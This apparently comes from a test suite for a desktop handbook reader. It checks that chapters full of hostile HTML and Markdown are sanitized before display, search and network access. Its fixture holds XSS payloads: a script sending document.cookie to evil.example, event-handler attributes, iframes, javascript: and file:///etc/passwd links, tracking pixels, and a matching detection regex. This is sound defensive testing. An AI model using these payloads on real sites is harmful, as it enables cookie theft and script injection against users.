"""A hostile handbook folder: the window reads every sound part of it, and nothing a
chapter smuggles in (scripts, handlers, frames, remote or local-file resources, hiding
styles) reaches the page, the search results or the network.

What `check`, `toc` and `show` do with such a folder is proved in tests/handbook/test_check.py
(its `hostile` fixture); the Markdown fuzzing in tests/content/test_render.py. Here: the page the
window shows (rendered with glossary marking), the window itself, and search.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PySide6 import QtGui
from PySide6.QtCore import QEvent
from PySide6.QtGui import QHelpEvent, QTextCursor, QTextDocument
from PySide6.QtWidgets import QApplication, QToolTip
from pytestqt.qtbot import QtBot

from reader.content.marking import marked_chapter_html
from reader.content.pages import Pages
from reader.handbook import Handbook, load_handbook
from reader.handbook.chapters import parse_chapter
from reader.preferences import Preferences
from reader.search.engine import SearchIndex
from reader.ui.mainwindow import MainWindow
from tests.content.test_render import HTMLISH, unsafe_markup
from tests.support import PICTURE_SVG, hostile_chapter_files, write_files

HEADINGS = 1000
BAD = """# Bad

<script>fetch("https://evil.example/?c=" + document.cookie)</script>

<p onclick="steal()">Click me</p>

Handlers in an attribute list
{: onclick="steal()" style="display:none" }

<iframe src="https://evil.example/frame"></iframe>

<object data="https://evil.example/x.swf">object fallback</object><embed src="https://evil.example/x.swf">

<svg onload="alert(1)"><circle r="5"/></svg>

<img src="pictures/none.png" onerror="alert(2)" alt="broken on purpose">

<meta http-equiv="refresh" content="0; url=https://evil.example/">

<link rel="stylesheet" href="https://evil.example/s.css">

<base href="https://evil.example/">

<form action="https://evil.example/post"><input name="q" value="typed"></form>

[run](javascript:alert(3)) [old](vbscript:msgbox) [read](file:///etc/passwd)

[data](data:text/html;base64,PHNjcmlwdD4=)

<a href="javascript:alert(4)">raw run</a> <a href="//evil.example/x">protocol relative</a>

![tracker](https://evil.example/pixel.png) ![hosts](file:///etc/hosts)

<img src="http://evil.example/raw.png" alt="raw tracker">

<span style="display:none">hidden text</span>

<div style="background:url(https://evil.example/bg.png)">styled text</div>

<style>body { visibility: hidden }</style>

[gone](gone.md) and [nowhere](good.md#nope)

A web page: [the foundation](https://example.org/idf).

## Safe part

This part is fine and should still show.
"""
GLOSSARY = """[[terms]]
term = "Vector"
definition = "A carrier <script>alert('glossary')</script>that brings a gene into a cell. <img src=\\"https://evil.example/g.png\\" alt=\\"g\\">"
"""  # noqa: E501

#: Nothing of this may be in the HTML the window shows.
FORBIDDEN_HTML = re.compile(
    r"<(script|iframe|object|embed|svg|style|meta|link|base|form|input)\b|\son\w+\s*="
    r"|javascript:|vbscript:|file:|data:|style=|evil\.example",
    re.IGNORECASE,
)
#: Nor may any of these words be visible on the page.
SCRIPT_TEXT = ("document.cookie", "alert(", "steal(", "msgbox", "visibility", "url(", "evil")


def _chapters() -> dict[str, str | bytes]:
    return {
        "good.md": "# Good\n\nA sound chapter about a vector. "
        "See [the safe part](bad.md#safe-part).\n\n![A small picture](pictures/ok.svg)\n",
        "bad.md": BAD,
        **hostile_chapter_files(HEADINGS),
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Handbook:
    root = tmp_path_factory.mktemp("hostile")
    names = [*_chapters(), "gone.md"]
    listed = ", ".join(f'"chapters/{name}"' for name in names)
    manifest = f'title = "Hostile"\nglossary = "glossary.toml"\nchapters = [{listed}]\n'
    (root / "handbook.toml").write_text(manifest, encoding="utf-8")
    (root / "glossary.toml").write_text(GLOSSARY, encoding="utf-8")
    write_files(root / "chapters", {"pictures/ok.svg": PICTURE_SVG, **_chapters()})
    return load_handbook(root)


@pytest.fixture(scope="module")
def hostile_index(hostile: Handbook) -> Iterator[SearchIndex]:
    with SearchIndex.open_or_build(hostile, None) as index:
        yield index


def test_the_sound_chapters_load(hostile: Handbook) -> None:
    ids = [chapter.id for chapter in hostile.chapters]
    assert ids == ["good", "bad", "latin1", "long", "deep", "heads", "glossary"]
    assert hostile.section("bad/safe-part") is not None
    assert len(hostile.chapter("heads").sections) == HEADINGS + 1  # type: ignore[union-attr]


def test_no_page_the_window_shows_carries_anything_hostile(hostile: Handbook) -> None:
    pages = Pages(hostile)
    for chapter in hostile.chapters:
        html = pages.chapter_html(chapter.id)
        found = FORBIDDEN_HTML.search(html)
        assert found is None, (chapter.id, html[max(0, found.start() - 80) : found.end() + 80])
    bad = pages.chapter_html("bad")
    for kept in ("Click me", "hidden text", "styled text", "should still show",
                 "[Picture: tracker]", "[Picture: raw tracker]", "[Picture: hosts]"):  # fmt: skip
        assert kept in bad, kept
    assert 'href="https://example.org/idf"' in bad  # a web link stays, for the window to ask


# --- the window on the hostile folder ------------------------------------------------


def test_window_reads_every_section_and_shows_nothing_hostile(
    qtbot: QtBot, hostile: Handbook, requested_resources: list[str]
) -> None:
    window = MainWindow(hostile, Preferences())
    qtbot.addWidget(window)
    window.start()
    window.show()
    qtbot.waitExposed(window)
    try:
        for chapter in hostile.chapters:
            assert window.navigator.navigate(chapter.id), chapter.id
            text = window.content.toPlainText()
            shown = [word for word in SCRIPT_TEXT if word in text]
            assert shown == [], (chapter.id, shown)
            assert not FORBIDDEN_HTML.search(
                "".join(re.findall(r'(?:src|href)="[^"]*"', window.content.toHtml()))
            )
            for section in chapter.sections:
                assert window.navigator.navigate(section.id), section.id
                assert window.navigator.current_section_id == section.id
        window.navigator.navigate("bad")
        text = window.content.toPlainText()
        assert "Click me" in text and "should still show" in text and "hidden text" in text
        assert "[Picture: tracker]" in text
        window.navigator.navigate("good")
        assert window.content.toPlainText().count("\ufffc") == 1  # the local picture, drawn
        assert requested_resources and all(u.startswith("picture:") for u in requested_resources)
    finally:
        window.search_index.shut_down()


def test_glossary_tooltip_shows_the_definition_as_plain_words(
    qtbot: QtBot, hostile: Handbook
) -> None:
    window = MainWindow(hostile, Preferences())
    qtbot.addWidget(window)
    window.start("good")
    window.show()
    qtbot.waitExposed(window)
    try:
        found = window.content.document().find("vector")
        assert found.charFormat().anchorHref() == "glossary:vector"
        cursor = QTextCursor(window.content.document())
        cursor.setPosition(found.selectionStart() + 2)
        point = window.content.cursorRect(cursor).center()
        tip_event = QHelpEvent(
            QEvent.Type.ToolTip, point, window.content.viewport().mapToGlobal(point)
        )
        QApplication.sendEvent(window.content.viewport(), tip_event)
        shown = QTextDocument()
        tip = QToolTip.text()
        if QtGui.Qt.mightBeRichText(tip):  # how Qt's tooltip decides to read it
            shown.setHtml(tip)
        else:
            shown.setPlainText(tip)
        term = hostile.glossary.find("vector")
        assert term is not None and "<script>" in term.short_definition
        assert shown.toPlainText() == term.short_definition  # every character, as words
    finally:
        QToolTip.hideText()
        window.search_index.shut_down()


# --- search over the hostile folder ---------------------------------------------------


def test_search_finds_the_sound_text_and_not_the_script(hostile_index: SearchIndex) -> None:
    found = hostile_index.search("should still show")
    assert found.hits and found.hits[0].id == "bad/safe-part"
    for hidden in ("cookie", "fetch", "visibility", "steal"):
        hits = hostile_index.search(hidden).hits
        assert all(hidden not in hit.snippet for hit in hits), hidden


MARKS = re.compile(r'<b class="match">|</b>')
QUERY_PIECES = st.sampled_from(
    ['"', "'", "(", ")", "*", "?", "~", "^", ":", "-", "+", "\\", "<", ">", "&", " ",
     "AND", "OR", "NOT", "title:", "<script>", "word", "wor", "heading", "cookie",
     "safe part", "vector", "café", "\x00", "\u202e", "🧬", "ǅ", "ﬁ", "\t\n"]
)  # fmt: skip
QUERIES = st.lists(QUERY_PIECES | st.text(max_size=12), max_size=12).map("".join) | st.text()


@settings(
    max_examples=200,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(query=QUERIES)
def test_any_query_is_answered_safely(
    hostile: Handbook, hostile_index: SearchIndex, query: str
) -> None:
    result = hostile_index.search(query, limit=10)
    assert result.query == query
    for hit in result.hits:
        assert hostile.section(hit.id) is not None, hit.id
        assert "<" not in MARKS.sub("", hit.snippet), hit.snippet
        assert ">" not in MARKS.sub("", hit.snippet), hit.snippet


# --- marking glossary terms never lets markup through ----------------------------------


@settings(
    max_examples=150,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(text=HTMLISH)
def test_marked_page_of_any_chapter_text_is_safe(hostile: Handbook, text: str) -> None:
    path = hostile.root / "chapters" / "fuzz.md"
    chapter = parse_chapter("fuzz", path, "# Fuzz\n\nA vector.\n\n" + text, [])
    fuzzed = Handbook(
        root=hostile.root,
        title="Fuzz",
        glossary_path=hostile.glossary_path,
        glossary=hostile.glossary,
        chapters=(chapter,),
    )
    html = marked_chapter_html(fuzzed, chapter)[0]
    assert unsafe_markup(html) == [], html


def test_fixture_folder_is_left_as_written(hostile: Handbook) -> None:
    """The reader only reads a handbook: nothing was added to the folder."""
    names = sorted(p.relative_to(hostile.root).as_posix() for p in hostile.root.rglob("*"))
    expected = sorted(
        ["handbook.toml", "glossary.toml", "chapters", "chapters/pictures",
         "chapters/pictures/ok.svg", *(f"chapters/{n}" for n in _chapters())]
    )  # fmt: skip
    assert names == expected
